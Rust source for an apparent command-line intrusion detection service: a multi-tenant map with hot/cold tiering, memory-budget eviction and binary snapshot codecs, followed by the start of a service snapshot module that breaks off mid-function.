            TenantError::Unknown(id) => write!(f, "unknown tenant {id}"),
            TenantError::Duplicate(id) => write!(f, "tenant {id} already exists"),
            TenantError::NoPipeline => {
                write!(f, "service has no pipeline; use the view-based API")
            }
            TenantError::Engine(msg) => write!(f, "tenant engine error: {msg}"),
            TenantError::InvalidConfig(msg) => write!(f, "invalid tenant config: {msg}"),
            TenantError::Persist(e) => write!(f, "bad tenant frame: {e}"),
        }
    }
}

impl std::error::Error for TenantError {}

impl From<PersistError> for TenantError {
    fn from(e: PersistError) -> Self {
        TenantError::Persist(e)
    }
}

impl From<DetectorError> for TenantError {
    fn from(e: DetectorError) -> Self {
        TenantError::Engine(e.to_string())
    }
}

/// Shape of a [`TenantService`]: routing, per-tenant detector config,
/// and the memory envelope.
#[derive(Debug, Clone, Copy)]
pub struct TenantConfig {
    /// Lock domains tenants are routed across (the shard-group axis;
    /// the `--shards` knob of `examples/multi_tenant.rs`).
    pub groups: usize,
    /// Seed of the content-stable routing hash. Defaults to the
    /// sharded index's [`DEFAULT_SHARD_SEED`] so tenant placement and
    /// row placement speak the same hash family.
    pub seed: u64,
    /// Index backend every tenant's detectors are fitted over
    /// (backend + quantization; `IndexConfig::hnsw()` +
    /// `Quantization::I8` is the tiering sweet spot — resident graphs
    /// when hot, graph-dropped i8 codes when cold).
    pub index: IndexConfig,
    /// Neighbours the retrieval detector averages (paper: 1).
    pub retrieval_k: usize,
    /// Neighbours the vanilla-kNN detector votes over.
    pub knn_k: usize,
    /// The memory envelope in bytes: when accounted tenant state
    /// exceeds this, least-recently-touched hot tenants are demoted.
    pub mem_budget: usize,
    /// Per-tenant drift tracking while hot ([`DriftDetector`] over the
    /// tenant's served score stream). `None` disables it.
    pub drift: Option<DriftConfig>,
}

impl Default for TenantConfig {
    fn default() -> Self {
        TenantConfig {
            groups: 4,
            seed: DEFAULT_SHARD_SEED,
            index: IndexConfig::Exact,
            retrieval_k: 1,
            knn_k: 3,
            mem_budget: 64 << 20,
            drift: None,
        }
    }
}

impl TenantConfig {
    fn validate(&self) -> Result<(), TenantError> {
        if self.groups == 0 {
            return Err(TenantError::InvalidConfig(
                "tenant routing needs at least one group".into(),
            ));
        }
        if self.retrieval_k == 0 || self.knn_k == 0 {
            return Err(TenantError::InvalidConfig(
                "neighbour counts must be >= 1".into(),
            ));
        }
        if self.mem_budget == 0 {
            return Err(TenantError::InvalidConfig(
                "memory budget must be >= 1 byte".into(),
            ));
        }
        if let Some(drift) = self.drift {
            DriftDetector::new(drift)
                .map_err(|e| TenantError::InvalidConfig(e.to_string()))
                .map(drop)?;
        }
        Ok(())
    }
}

/// A hot tenant's resident state: the fitted engine plus its drift
/// tracker (drift is hot-tier state — demotion drops it, promotion
/// starts a fresh reference window).
struct HotTenant {
    engine: FittedEngine,
    drift: Option<DriftDetector>,
}

/// Which tier a tenant's state currently lives in.
enum TierState {
    Hot(Box<HotTenant>),
    /// The serialized frame ([`write_tenant_frame`]); `Arc` so
    /// snapshots can share it without copying.
    Cold(Arc<[u8]>),
}

/// One tenant's slot in its routing group.
struct TenantSlot {
    state: TierState,
    /// The tenant's detector-state epoch: bumped per absorbed append,
    /// validated by tenant-scoped verdict-cache lookups
    /// ([`crate::VerdictCache::lookup_batch_tenant`]).
    epoch: u64,
    /// Lines of supervision absorbed since creation.
    appends: u64,
    /// Accounted bytes of the *current* tier state.
    bytes: usize,
}

impl TenantSlot {
    fn hot_mut(&mut self) -> &mut HotTenant {
        match &mut self.state {
            TierState::Hot(hot) => hot,
            TierState::Cold(_) => unreachable!("slot promoted before use"),
        }
    }

    fn is_hot(&self) -> bool {
        matches!(self.state, TierState::Hot(_))
    }
}

/// Recency + accounting state, one lock for the whole map. Group
/// locks are never acquired while this is held (always group →
/// ledger), so the two lock families cannot deadlock.
struct Ledger {
    /// Monotonic logical clock; every touch stamps its tenant.
    clock: u64,
    /// Accounted bytes across every tenant, both tiers.
    bytes: usize,
    /// `tenant → last-touch stamp`, **hot tenants only** — exactly
    /// the eviction candidates, so picking a victim is one scan of
    /// the hot set, not of all tenants.
    touch: HashMap<u64, u64>,
}

/// Monotonic counters plus the current shape of a [`TenantService`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct TenantStats {
    /// Tenants resident in the map (both tiers).
    pub tenants: usize,
    /// Tenants currently holding fitted engines.
    pub hot: usize,
    /// Tenants currently demoted to serialized frames.
    pub cold: usize,
    /// Accounted bytes across every tenant, both tiers.
    pub accounted_bytes: usize,
    /// The configured memory envelope.
    pub budget: usize,
    /// Cold → hot rebuilds (lazy, on first touch).
    pub promotions: usize,
    /// Hot → cold serializations (explicit demotes + evictions).
    pub demotions: usize,
    /// Demotions forced by the memory budget.
    pub evictions: usize,
}

/// The tenant map: per-tenant exemplar partitions behind group locks,
/// with tiered residency managed against a fixed memory budget. See
/// the module docs for the tiering contract.
pub struct TenantService {
    pipeline: Option<IdsPipeline>,
    config: TenantConfig,
    groups: Vec<RwLock<HashMap<u64, TenantSlot>>>,
    ledger: Mutex<Ledger>,
    promotions: AtomicUsize,
    demotions: AtomicUsize,
    evictions: AtomicUsize,
}

impl TenantService {
    /// A tenant map serving pre-embedded views only (the `_view` API
    /// family) — what the scale bench uses to model 10k tenants
    /// without paying 10k encoder passes.
    pub fn new(config: TenantConfig) -> Result<Self, TenantError> {
        Self::build(None, config)
    }

    /// A tenant map that embeds raw command lines through `pipeline`
    /// (the serving path: [`TenantService::score`] /
    /// [`TenantService::append`]).
    pub fn with_pipeline(pipeline: IdsPipeline, config: TenantConfig) -> Result<Self, TenantError> {
        Self::build(Some(pipeline), config)
    }

    fn build(pipeline: Option<IdsPipeline>, config: TenantConfig) -> Result<Self, TenantError> {
        config.validate()?;
        Ok(TenantService {
            pipeline,
            config,
            groups: (0..config.groups)
                .map(|_| RwLock::new(HashMap::new()))
                .collect(),
            ledger: Mutex::new(Ledger {
                clock: 0,
                bytes: 0,
                touch: HashMap::new(),
            }),
            promotions: AtomicUsize::new(0),
            demotions: AtomicUsize::new(0),
            evictions: AtomicUsize::new(0),
        })
    }

    /// The configuration this map was built with.
    pub fn config(&self) -> &TenantConfig {
        &self.config
    }

    /// Method names every tenant's verdict vectors follow, in
    /// registration order.
    pub fn method_names(&self) -> Vec<String> {
        vec!["retrieval".into(), "vanilla-knn".into()]
    }

    /// The routing group owning `tenant`: the sharded index's seeded
    /// content-stable FNV-1a ([`shard_for_row`]) over the id's 64-bit
    /// pattern, so placement is stable across processes and restarts.
    pub fn group_of(&self, tenant: TenantId) -> usize {
        let bits = [
            f32::from_bits(tenant.0 as u32),
            f32::from_bits((tenant.0 >> 32) as u32),
        ];
        shard_for_row(self.config.seed, self.config.groups, &bits)
    }

    // --- tenant lifecycle -------------------------------------------

    /// Creates a tenant by embedding its labeled baseline through the
    /// pipeline and fitting a private detector set.
    pub fn create_tenant(
        &self,
        tenant: TenantId,
        lines: &[String],
        labels: &[bool],
    ) -> Result<(), TenantError> {
        let pipeline = self.pipeline.as_ref().ok_or(TenantError::NoPipeline)?;
        let refs: Vec<&str> = lines.iter().map(String::as_str).collect();
        let specs = detector_templates(&self.config);
        let views = PooledViews::build_specs(
            pipeline,
            specs.iter().map(|d| (d.wants_embeddings(), d.pooling())),
            &refs,
        );
        self.create_with(tenant, specs, labels, |det| views.for_detector(det))
    }

    /// Creates a tenant from an already-embedded labeled baseline.
    pub fn create_tenant_from_view(
        &self,
        tenant: TenantId,
        view: &EmbeddingView,
        labels: &[bool],
    ) -> Result<(), TenantError> {
        let specs = detector_templates(&self.config);
        self.create_with(tenant, specs, labels, |_| view.clone())
    }

    fn create_with(
        &self,
        tenant: TenantId,
        mut detectors: Vec<Box<dyn Detector>>,
        labels: &[bool],
        view_for: impl Fn(&dyn Detector) -> EmbeddingView,
    ) -> Result<(), TenantError> {
        for det in &mut detectors {
            let view = view_for(det.as_ref());
            det.fit(&view, labels)?;
        }
        let engine = FittedEngine::from_detectors(detectors);
        let bytes = engine.resident_bytes();
        let hot = HotTenant {
            engine,
            drift: self.make_drift(),
        };
        {
            let mut group = self.groups[self.group_of(tenant)].write().unwrap();
            if group.contains_key(&tenant.0) {
                return Err(TenantError::Duplicate(tenant.0));
            }
            group.insert(
                tenant.0,
                TenantSlot {
                    state: TierState::Hot(Box::new(hot)),
                    epoch: 0,
                    appends: 0,
                    bytes,
                },
            );
        }
        self.touch_and_account(tenant, bytes as i64);
        self.enforce_budget();
        Ok(())
    }

    fn make_drift(&self) -> Option<DriftDetector> {
        self.config
            .drift
            .map(|c| DriftDetector::new(c).expect("drift config validated at construction"))
    }

    // --- scoring and appends ----------------------------------------

    /// Scores a batch of raw lines against `tenant`'s partition:
    /// embeds once per pooled space the tenant's detectors read
    /// (exactly the dedicated service's path, so verdicts are
    /// bit-identical to it on exact backends), promoting the tenant
    /// first if it is cold. Returns one score vector per line,
    /// methods in registration order.
    pub fn score(&self, tenant: TenantId, lines: &[String]) -> Result<Vec<Vec<f32>>, TenantError> {
        let pipeline = self.pipeline.as_ref().ok_or(TenantError::NoPipeline)?;
        let refs: Vec<&str> = lines.iter().map(String::as_str).collect();
        self.with_hot(tenant, |slot| {
            let hot = slot.hot_mut();
            let views = PooledViews::build_specs(
                pipeline,
                hot.engine
                    .detectors()
                    .iter()
                    .map(|d| (d.wants_embeddings(), d.pooling())),
                &refs,
            );
            let run = hot.engine.score_each(|det| views.for_detector(det));
            let out = transpose(run.outputs(), lines.len());
            observe_drift(hot, &out);
            Ok(out)
        })
    }

    /// [`TenantService::score`] over a pre-embedded view (every
    /// detector reads the same view).
    pub fn score_view(
        &self,
        tenant: TenantId,
        view: &EmbeddingView,
    ) -> Result<Vec<Vec<f32>>, TenantError> {
        self.with_hot(tenant, |slot| {
            let hot = slot.hot_mut();
            let run = hot.engine.score_each(|_| view.clone());
            let out = transpose(run.outputs(), view.len());
            observe_drift(hot, &out);
            Ok(out)
        })
    }

    /// Absorbs freshly-labeled supervision into `tenant`'s partition
    /// (promoting it first), bumping the tenant's detector-state
    /// epoch so tenant-scoped cached verdicts stop hitting. Returns
    /// how many detectors absorbed the batch.
    pub fn append(
        &self,
        tenant: TenantId,
        lines: &[String],
        labels: &[bool],
    ) -> Result<usize, TenantError> {
        let pipeline = self.pipeline.as_ref().ok_or(TenantError::NoPipeline)?;
        let refs: Vec<&str> = lines.iter().map(String::as_str).collect();
        self.with_hot(tenant, |slot| {
            let hot = slot.hot_mut();
            let views = PooledViews::build_specs(
                pipeline,
                hot.engine
                    .detectors()
                    .iter()
                    .filter(|d| d.absorbs_appends())
                    .map(|d| (d.wants_embeddings(), d.pooling())),
                &refs,
            );
            let absorbed = hot
                .engine
                .append_each(labels, |det| views.for_detector(det))
                .map_err(|e| TenantError::Engine(e.to_string()))?;
            slot.epoch += 1;
            slot.appends += labels.len() as u64;
            Ok(absorbed)
        })
    }

    /// [`TenantService::append`] over a pre-embedded view.
    pub fn append_view(
        &self,
        tenant: TenantId,
        view: &EmbeddingView,
        labels: &[bool],
    ) -> Result<usize, TenantError> {
        self.with_hot(tenant, |slot| {
            let absorbed = slot
                .hot_mut()
                .engine
                .append_each(labels, |_| view.clone())
                .map_err(|e| TenantError::Engine(e.to_string()))?;
            slot.epoch += 1;
            slot.appends += labels.len() as u64;
            Ok(absorbed)
        })
    }

    /// Promotes `tenant` if cold, runs `f` on its hot slot, then
    /// refreshes accounting (byte delta + recency stamp) and enforces
    /// the budget. The group write lock is held across promotion and
    /// `f` — per-tenant operations are atomic; the ledger is only
    /// locked after the group lock is released.
    fn with_hot<R>(
        &self,
        tenant: TenantId,
        f: impl FnOnce(&mut TenantSlot) -> Result<R, TenantError>,
    ) -> Result<R, TenantError> {
        let (res, delta) = {
            let mut group = self.groups[self.group_of(tenant)].write().unwrap();
            let slot = group
                .get_mut(&tenant.0)
                .ok_or(TenantError::Unknown(tenant.0))?;
            if let TierState::Cold(frame) = &slot.state {
                let engine = read_tenant_frame(frame)?;
                slot.state = TierState::Hot(Box::new(HotTenant {
                    engine,
                    drift: self.make_drift(),
                }));
                self.promotions.fetch_add(1, Ordering::Relaxed);
            }
            let res = f(slot);
            // Account even when `f` failed: the promotion above (and
            // any partial append) already changed residency.
            let now = slot.hot_mut().engine.resident_bytes();
            let delta = now as i64 - slot.bytes as i64;
            slot.bytes = now;
            (res, delta)
        };
        self.touch_and_account(tenant, delta);
        self.enforce_budget();
        res
    }

    fn touch_and_account(&self, tenant: TenantId, delta: i64) {
        let mut ledger = self.ledger.lock().unwrap();
        ledger.clock += 1;
        let stamp = ledger.clock;
        ledger.bytes = (ledger.bytes as i64 + delta).max(0) as usize;
        ledger.touch.insert(tenant.0, stamp);
    }

    // --- tiering ----------------------------------------------------

    /// Whether `tenant` currently holds a fitted engine.
    pub fn is_hot(&self, tenant: TenantId) -> Result<bool, TenantError> {
        let group = self.groups[self.group_of(tenant)].read().unwrap();
        group
            .get(&tenant.0)
            .map(TenantSlot::is_hot)
            .ok_or(TenantError::Unknown(tenant.0))
    }

    /// The tenant's detector-state epoch (for tenant-scoped verdict
    /// caching).
    pub fn epoch_of(&self, tenant: TenantId) -> Result<u64, TenantError> {
        let group = self.groups[self.group_of(tenant)].read().unwrap();
        group
            .get(&tenant.0)
            .map(|s| s.epoch)
            .ok_or(TenantError::Unknown(tenant.0))
    }

    /// Demotes `tenant` to its serialized cold frame now. Returns
    /// `false` if it was already cold. (The budget enforcer calls
    /// this; it is public so tests and operators can shed a tenant
    /// deliberately.)
    pub fn demote(&self, tenant: TenantId) -> Result<bool, TenantError> {
        let delta = {
            let mut group = self.groups[self.group_of(tenant)].write().unwrap();
            let slot = group
                .get_mut(&tenant.0)
                .ok_or(TenantError::Unknown(tenant.0))?;
            let TierState::Hot(hot) = &slot.state else {
                drop(group);
                self.ledger.lock().unwrap().touch.remove(&tenant.0);
                return Ok(false);
            };
            let frame: Arc<[u8]> = write_tenant_frame(&hot.engine, true)?.into();
            let now = frame.len();
            let delta = now as i64 - slot.bytes as i64;
            slot.bytes = now;
            slot.state = TierState::Cold(frame);
            delta
        };
        self.demotions.fetch_add(1, Ordering::Relaxed);
        let mut ledger = self.ledger.lock().unwrap();
        ledger.bytes = (ledger.bytes as i64 + delta).max(0) as usize;
        ledger.touch.remove(&tenant.0);
        Ok(true)
    }

    /// Demotes least-recently-touched hot tenants until the accounted
    /// total fits the budget or nothing is left hot. Runs after every
    /// accounting change; convergent because each round removes its
    /// victim from the hot set.
    fn enforce_budget(&self) {
        loop {
            let victim = {
                let ledger = self.ledger.lock().unwrap();
                if ledger.bytes <= self.config.mem_budget {
                    return;
                }
                ledger
                    .touch
                    .iter()
                    .min_by_key(|&(id, stamp)| (*stamp, *id))
                    .map(|(&id, _)| id)
            };
            let Some(victim) = victim else {
                // All-cold floor above the budget: nothing left to
                // shed. Stats report the overage honestly.
                return;
            };
            match self.demote(TenantId(victim)) {
                Ok(true) => {
                    self.evictions.fetch_add(1, Ordering::Relaxed);
                }
                // Already cold (raced another demote) or vanished —
                // `demote` dropped it from the hot set either way, so
                // the loop still shrinks.
                Ok(false) | Err(TenantError::Unknown(_)) => {}
                // Serialization failed; stop shedding rather than
                // spinning on the same victim.
                Err(_) => return,
            }
        }
    }

    /// Accounted bytes across every tenant, both tiers.
    pub fn accounted_bytes(&self) -> usize {
        self.ledger.lock().unwrap().bytes
    }

    /// Whether the tenant's hot drift tracker has fired (`None` when
    /// the tenant is cold or drift tracking is disabled).
    pub fn drift_fired(&self, tenant: TenantId) -> Result<Option<bool>, TenantError> {
        let group = self.groups[self.group_of(tenant)].read().unwrap();
        let slot = group.get(&tenant.0).ok_or(TenantError::Unknown(tenant.0))?;
        Ok(match &slot.state {
            TierState::Hot(hot) => hot.drift.as_ref().map(DriftDetector::fired),
            TierState::Cold(_) => None,
        })
    }

    /// Counters and current shape.
    pub fn stats(&self) -> TenantStats {
        let (mut tenants, mut hot) = (0usize, 0usize);
        for group in &self.groups {
            let group = group.read().unwrap();
            tenants += group.len();
            hot += group.values().filter(|s| s.is_hot()).count();
        }
        TenantStats {
            tenants,
            hot,
            cold: tenants - hot,
            accounted_bytes: self.accounted_bytes(),
            budget: self.config.mem_budget,
            promotions: self.promotions.load(Ordering::Relaxed),
            demotions: self.demotions.load(Ordering::Relaxed),
            evictions: self.evictions.load(Ordering::Relaxed),
        }
    }

    // --- persistence ------------------------------------------------

    /// Captures the whole tenant map as one snapshot. Hot tenants are
    /// serialized at **full fidelity** (graphs included, unlike
    /// demotion's graph-drop) so a restore-then-touch adopts the
    /// saved graph without a construction pass; cold tenants reuse
    /// their existing frames as-is.
    pub fn snapshot(&self) -> Result<TenantMapSnapshot, TenantError> {
        let mut entries = Vec::new();
        for group in &self.groups {
            let group = group.read().unwrap();
            for (&id, slot) in group.iter() {
                let frame = match &slot.state {
                    TierState::Hot(hot) => write_tenant_frame(&hot.engine, false)?.into(),
                    TierState::Cold(frame) => Arc::clone(frame),
                };
                entries.push(TenantEntry {
                    id,
                    epoch: slot.epoch,
                    appends: slot.appends,
                    frame,
                });
            }
        }
        entries.sort_by_key(|e| e.id);
        Ok(TenantMapSnapshot { entries })
    }

    /// Restores a snapshot into a fresh map with **every tenant
    /// cold** — zero construction passes, zero decode work beyond
    /// frame lengths; each tenant rebuilds lazily on first touch
    /// (asserted against [`index::construction_passes`] in
    /// `tests/tenants.rs`).
    pub fn restore(
        snapshot: TenantMapSnapshot,
        pipeline: Option<IdsPipeline>,
        config: TenantConfig,
    ) -> Result<Self, TenantError> {
        let service = Self::build(pipeline, config)?;
        let mut total = 0usize;
        for entry in snapshot.entries {
            let mut group = service.groups[service.group_of(TenantId(entry.id))]
                .write()
                .unwrap();
            if group.contains_key(&entry.id) {
                return Err(TenantError::Duplicate(entry.id));
            }
            let bytes = entry.frame.len();
            total += bytes;
            group.insert(
                entry.id,
                TenantSlot {
                    state: TierState::Cold(entry.frame),
                    epoch: entry.epoch,
                    appends: entry.appends,
                    bytes,
                },
            );
        }
        service.ledger.lock().unwrap().bytes = total;
        Ok(service)
    }
}

/// The unfitted per-tenant detector set (registration order pins the
/// verdict-vector layout: retrieval, then vanilla-kNN).
fn detector_templates(config: &TenantConfig) -> Vec<Box<dyn Detector>> {
    vec![
        Box::new(RetrievalMethod::with_index(
            config.retrieval_k,
            config.index,
        )),
        Box::new(VanillaKnnMethod::with_index(config.knn_k, config.index)),
    ]
}

/// Transposes method-major engine output into line-major verdicts —
/// the same loop the dedicated service runs, so the two layouts are
/// identical by construction.
fn transpose(outputs: &[cmdline_ids::engine::MethodScores], n_lines: usize) -> Vec<Vec<f32>> {
    let mut out = vec![Vec::with_capacity(outputs.len()); n_lines];
    for method in outputs {
        debug_assert_eq!(method.scores.len(), n_lines);
        for (line, &s) in out.iter_mut().zip(&method.scores) {
            line.push(s);
        }
    }
    out
}

fn observe_drift(hot: &mut HotTenant, verdicts: &[Vec<f32>]) {
    if let Some(drift) = &mut hot.drift {
        for mean in observed_means(verdicts) {
            drift.observe(mean);
        }
    }
}

// --- the tenant frame codec ----------------------------------------
//
// frame := n_detectors:usize | detector*
// detector := tag:u8 | body
//   tag 0: a full `DetectorState` frame (graphs included)
//   tag 1: graph-dropped retrieval  — k | HnswParams | Exact snapshot
//   tag 2: graph-dropped vanilla-kNN — k | labels | HnswParams | Exact
//
// Graph-drop applies only when the rebuild is provably identical: an
// HNSW index with no tombstones whose level-RNG draw count equals its
// row count (one draw per row — i.e. never compacted), so
// `build_quantized` over the round-trip-exact candidate matrix
// replays the same draws from the same seed and re-grows the same
// graph (the pinned build ≡ build+insert property). Anything else
// keeps its full frame.

const FRAME_FULL: u8 = 0;
const FRAME_DROPPED_RETRIEVAL: u8 = 1;
const FRAME_DROPPED_KNN: u8 = 2;

fn put_hnsw_params(w: &mut ByteWriter, p: &HnswParams) {
    w.put_usize(p.m);
    w.put_usize(p.ef_construction);
    w.put_usize(p.ef_search);
    w.put_u64(p.seed);
    w.put_f32(p.compact_ratio);
}

fn get_hnsw_params(r: &mut ByteReader) -> Result<HnswParams, PersistError> {
    Ok(HnswParams {
        m: r.get_usize()?,
        ef_construction: r.get_usize()?,
        ef_search: r.get_usize()?,
        seed: r.get_u64()?,
        compact_ratio: r.get_f32()?,
    })
}

/// Whether a captured HNSW graph may be dropped and deterministically
/// re-grown (see the codec comment above).
fn droppable(tombstone: &[bool], draws: u64, rows: usize) -> bool {
    !tombstone.iter().any(|&t| t) && draws == rows as u64
}

/// Serializes a tenant's fitted engine. `drop_graphs` selects the
/// demotion encoding (graph-dropped HNSW where provably rebuildable);
/// map snapshots pass `false` to keep full fidelity.
fn write_tenant_frame(engine: &FittedEngine, drop_graphs: bool) -> Result<Vec<u8>, TenantError> {
    let mut w = ByteWriter::new();
    let detectors = engine.detectors();
    w.put_usize(detectors.len());
    for det in detectors {
        let state = DetectorState::capture(det.as_ref()).ok_or_else(|| {
            TenantError::Engine(format!("detector '{}' is not serializable", det.name()))
        })?;
        match state {
            DetectorState::Retrieval {
                k,
                index:
                    IndexSnapshot::Hnsw {
                        data,
                        norms,
                        params,
                        tombstone,
                        draws,
                        ..
                    },
            } if drop_graphs && droppable(&tombstone, draws, data.rows()) => {
                w.put_u8(FRAME_DROPPED_RETRIEVAL);
                w.put_usize(k);
                put_hnsw_params(&mut w, &params);
                IndexSnapshot::Exact { data, norms }.write(&mut w);
            }
            DetectorState::VanillaKnn {
                k,
                labels,
                index:
                    IndexSnapshot::Hnsw {
                        data,
                        norms,
                        params,
                        tombstone,
                        draws,
                        ..
                    },
            } if drop_graphs && droppable(&tombstone, draws, data.rows()) => {
                w.put_u8(FRAME_DROPPED_KNN);
                w.put_usize(k);
                w.put_bools(&labels);
                put_hnsw_params(&mut w, &params);
                IndexSnapshot::Exact { data, norms }.write(&mut w);
            }
            state => {
                w.put_u8(FRAME_FULL);
                state.write(&mut w);
            }
        }
    }
    Ok(w.into_bytes())
}

/// Re-grows an HNSW index from a graph-dropped frame: decode the
/// round-trip-exact candidate matrix and replay the deterministic
/// construction (same seed, same draws, same codes ⇒ same graph).
fn regrow_hnsw(r: &mut ByteReader) -> Result<(HnswIndex, usize), PersistError> {
    let params = get_hnsw_params(r)?;
    let (data, norms) = match IndexSnapshot::read(r)? {
        IndexSnapshot::Exact { data, norms } => (data, norms),
        _ => {
            return Err(PersistError::Corrupt(
                "graph-dropped frame must hold an exact snapshot",
            ))
        }
    };
    let quant = data.quantization();
    let rows = data.rows();
    let matrix = decode_matrix(&data);
    Ok((
        HnswIndex::build_quantized(matrix, norms, params, quant),
        rows,
    ))
}

fn decode_matrix(data: &QuantizedMatrix) -> Matrix {
    let (rows, cols) = (data.rows(), data.cols());
    let mut flat = Vec::with_capacity(rows * cols);
    for r in 0..rows {
        flat.extend(data.decode_row(r));
    }
    Matrix::from_vec(rows, cols, flat)
}

/// Deserializes a tenant frame back into a fitted engine (the
/// promotion path).
fn read_tenant_frame(frame: &[u8]) -> Result<FittedEngine, TenantError> {
    let mut r = ByteReader::new(frame);
    let n = r.get_usize()?;
    if n.saturating_mul(2) > frame.len() {
        return Err(PersistError::Truncated.into());
    }
    let mut detectors: Vec<Box<dyn Detector>> = Vec::with_capacity(n);
    for _ in 0..n {
        detectors.push(match r.get_u8()? {
            FRAME_FULL => DetectorState::read(&mut r)?.restore(),
            FRAME_DROPPED_RETRIEVAL => {
                let k = r.get_usize()?;
                if k == 0 {
                    return Err(PersistError::Corrupt("k must be positive").into());
                }
                let (index, rows) = regrow_hnsw(&mut r)?;
                if rows == 0 {
                    return Err(PersistError::Corrupt("empty exemplar index").into());
                }
                Box::new(RetrievalMethod::from_fitted(RetrievalDetector::from_index(
                    Box::new(index),
                    k,
                )))
            }
            FRAME_DROPPED_KNN => {
                let k = r.get_usize()?;
                if k == 0 {
                    return Err(PersistError::Corrupt("k must be positive").into());
                }
                let labels = r.get_bools()?;
                let (index, rows) = regrow_hnsw(&mut r)?;
                if rows == 0 || rows != labels.len() {
                    return Err(PersistError::Corrupt("label count != row count").into());
                }
                Box::new(VanillaKnnMethod::from_fitted(VanillaKnn::from_parts(
                    Box::new(index),
                    labels,
                    k,
                )))
            }
            tag => return Err(PersistError::BadTag(tag).into()),
        });
    }
    if r.remaining() != 0 {
        return Err(PersistError::Corrupt("trailing bytes after tenant frame").into());
    }
    Ok(FittedEngine::from_detectors(detectors))
}

// --- whole-map persistence -----------------------------------------

const MAP_MAGIC: [u8; 4] = *b"CTNT";
const MAP_VERSION: u32 = 1;

struct TenantEntry {
    id: u64,
    epoch: u64,
    appends: u64,
    frame: Arc<[u8]>,
}

/// A serialized tenant map: every tenant's id, epoch, append count,
/// and state frame. Restoring loads all tenants cold
/// ([`TenantService::restore`]).
pub struct TenantMapSnapshot {
    entries: Vec<TenantEntry>,
}

impl TenantMapSnapshot {
    /// Tenants in the snapshot.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// Whether the snapshot holds no tenants.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Encodes the map as one binary frame
    /// (`magic | version | n | (id epoch appends frame)*`).
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut w = ByteWriter::new();
        for b in MAP_MAGIC {
            w.put_u8(b);
        }
        w.put_u32(MAP_VERSION);
        w.put_usize(self.entries.len());
        for e in &self.entries {
            w.put_u64(e.id);
            w.put_u64(e.epoch);
            w.put_u64(e.appends);
            w.put_bytes(&e.frame);
        }
        w.into_bytes()
    }

    /// Decodes a [`TenantMapSnapshot::to_bytes`] frame. Total: every
    /// malformed input is a typed [`PersistError`].
    pub fn from_bytes(bytes: &[u8]) -> Result<Self, PersistError> {
        let mut r = ByteReader::new(bytes);
        for expect in MAP_MAGIC {
            if r.get_u8()? != expect {
                return Err(PersistError::BadMagic);
            }
        }
        let version = r.get_u32()?;
        if version != MAP_VERSION {
            return Err(PersistError::UnsupportedVersion(version));
        }
        let n = r.get_usize()?;
        if n.saturating_mul(32) > r.remaining() {
            return Err(PersistError::Truncated);
        }
        let entries = (0..n)
            .map(|_| {
                Ok(TenantEntry {
                    id: r.get_u64()?,
                    epoch: r.get_u64()?,
                    appends: r.get_u64()?,
                    frame: r.get_bytes()?.into(),
                })
            })
            .collect::<Result<Vec<_>, PersistError>>()?;
        if r.remaining() != 0 {
            return Err(PersistError::Corrupt("trailing bytes after tenant map"));
        }
        Ok(TenantMapSnapshot { entries })
    }
}
