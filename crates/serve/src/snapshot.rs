//! Service cold-start persistence: the fitted neighbour detectors
//! (detector params + built index graphs + candidate norms) as one
//! binary frame on disk.

use anomaly::DetectorState;
use cmdline_ids::engine::FittedEngine;
use index::persist::{ByteReader, ByteWriter, PersistError};
use std::path::Path;

/// Leading bytes of a service snapshot frame.
const MAGIC: &[u8; 4] = b"CSRV";
/// The original frame version: f32-only detector payloads. Still
/// written whenever every captured index is f32, so pre-quantization
/// readers keep reading those frames byte for byte.
const VERSION_V1: u32 = 1;
/// The quantized-payload version: some embedded detector state uses
/// the index layer's V2-only quantized tags. Bumped so an old reader
/// fails with a clear [`PersistError::UnsupportedVersion`] instead of
/// an opaque `BadTag` mid-payload.
const VERSION_V2: u32 = 2;

/// Why saving or loading a [`ServiceSnapshot`] failed.
#[derive(Debug)]
pub enum SnapshotError {
    /// The frame was malformed (see [`PersistError`]).
    Persist(PersistError),
    /// Reading or writing the file failed.
    Io(std::io::Error),
}

impl std::fmt::Display for SnapshotError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            SnapshotError::Persist(e) => write!(f, "{e}"),
            SnapshotError::Io(e) => write!(f, "{e}"),
        }
    }
}

impl std::error::Error for SnapshotError {}

impl From<PersistError> for SnapshotError {
    fn from(e: PersistError) -> Self {
        SnapshotError::Persist(e)
    }
}

impl From<std::io::Error> for SnapshotError {
    fn from(e: std::io::Error) -> Self {
        SnapshotError::Io(e)
    }
}

/// The persistable state of a serving detector set: one
/// [`DetectorState`] per snapshot-capable fitted detector (retrieval
/// and vanilla kNN, whose fitted state *is* a built index, plus the
/// structural side-channel detector, whose state is flat feature
/// moments and exemplar rows).
///
/// Restoring adopts the saved graphs directly: no
/// O(n·ef_construction) pass runs, which
/// `tests/snapshot_cold_start.rs` asserts against
/// [`index::construction_passes`]. Methods that refit cheaply from
/// data (PCA, iforest, OCSVM) or own a tuned encoder are not captured
/// — [`ServiceSnapshot::capture`] records their names as skipped so
/// the caller can refit them alongside the restore.
#[derive(Debug, Clone)]
pub struct ServiceSnapshot {
    states: Vec<DetectorState>,
}

impl ServiceSnapshot {
    /// Captures every snapshot-capable fitted detector; returns the
    /// snapshot plus the names of detectors that were *not* capturable
    /// (unfitted or snapshot-unsupported).
    pub fn capture(engine: &FittedEngine) -> (ServiceSnapshot, Vec<String>) {
        let mut states = Vec::new();
        let mut skipped = Vec::new();
        for det in engine.detectors() {
            match DetectorState::capture(det.as_ref()) {
                Some(state) => states.push(state),
                None => skipped.push(det.name().to_string()),
            }
        }
        (ServiceSnapshot { states }, skipped)
    }

    /// Assembles a snapshot from already-captured states — the shard
    /// router's path, which reassembles each partitioned method's
    /// state (a sharded manifest + N shard frames) from its live
    /// per-shard detectors before framing them here.
    pub fn from_states(states: Vec<DetectorState>) -> Self {
        ServiceSnapshot { states }
    }

    /// The captured per-detector states.
    pub fn states(&self) -> &[DetectorState] {
        &self.states
    }

    /// Number of captured detectors.
    pub fn len(&self) -> usize {
        self.states.len()
    }

    /// Whether nothing was captured.
    pub fn is_empty(&self) -> bool {
        self.states.is_empty()
    }

    /// Rebuilds a fitted engine from the captured detectors, adopting
    /// the saved index graphs without a construction pass.
    pub fn restore(self) -> FittedEngine {
        FittedEngine::from_detectors(
            self.states
                .into_iter()
                .map(DetectorState::restore)
